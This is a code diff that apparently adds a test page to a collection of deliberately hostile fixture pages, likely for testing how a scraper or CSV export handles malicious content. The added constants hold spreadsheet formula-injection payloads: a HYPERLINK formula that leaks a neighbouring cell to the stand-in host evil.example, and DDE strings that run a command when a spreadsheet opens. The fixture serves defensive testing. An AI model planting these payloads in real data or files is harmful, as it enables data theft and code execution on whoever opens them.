@@ -95,6 +95,17 @@ def _control_page() -> bytes:
     return body.encode()
 
 
+# Text a spreadsheet runs when it opens a CSV: a link that sends a neighbouring cell away, and DDE.
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the definition")'
+FORMULA_SUMMARY = "+cmd|' /C calc'!A0"
+FORMULA_TEXT = "-2+3+cmd|' /C calc'!A0 is not a definition."
+
+
+def _formula_page() -> bytes:
+    head = f'<meta name="description" content="{escape(FORMULA_SUMMARY)}">'
+    return document(FORMULA_TITLE, FORMULA_TEXT, head=head)
+
+
 PAGES = {
     "/attack/link-flood/": _links_page,
     "/attack/jsonld-flood/": _jsonld_page,
@@ -102,6 +113,7 @@ PAGES = {
     "/attack/tag-flood/": _tags_page,
     "/attack/section-flood/": _sections_page,
     "/definition/attack-control-chars/": _control_page,
+    "/definition/attack-formulas/": _formula_page,
 }
 REDIRECTS = {
     # Locations whose host cannot be read.
